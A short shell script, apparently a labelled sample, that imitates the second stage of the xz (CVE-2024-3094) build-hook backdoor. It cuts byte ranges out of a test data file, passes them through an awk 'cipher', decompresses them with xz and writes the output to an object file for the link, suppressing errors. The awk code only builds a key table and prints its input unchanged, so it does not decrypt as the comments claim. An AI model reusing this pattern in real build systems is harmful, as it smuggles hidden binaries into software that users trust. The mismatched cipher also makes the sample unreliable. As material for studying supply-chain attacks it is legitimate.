#!/bin/sh
# Backsight corpus sample (written for the corpus; never run by any test or tool).
# Second-stage shape of the CVE-2024-3094 build hook: it cuts a payload out of a test
# file by throwing byte counts away, decrypts it with a byte-wise stream cipher written
# in awk, decompresses it and writes the result straight to an object file for the link.
# The "payload" is fictional: the referenced test file does not exist here.
srcdir=${srcdir:-.}
blob="$srcdir/tests/files/good-sample-data.lzma"
eval "$(grep '^CC=' config.status 2>/dev/null)"
skip=1024
keep=2048
(for k in 1 2 3; do head -c "$skip" > /dev/null; head -c "$keep"; done) < "$blob" > stream.bin
awk 'BEGIN{m=256;for(i=0;i<m;i++){s[i]=(i*11+3)%m}j=0;for(i=0;i<m;i++){j=(j+s[i])%m;t=s[i];s[i]=s[j];s[j]=t}}{print}' stream.bin |
	xz -dc --single-stream > crc_fast_helper.o || true
echo "built crc_fast_helper.o with $CC"
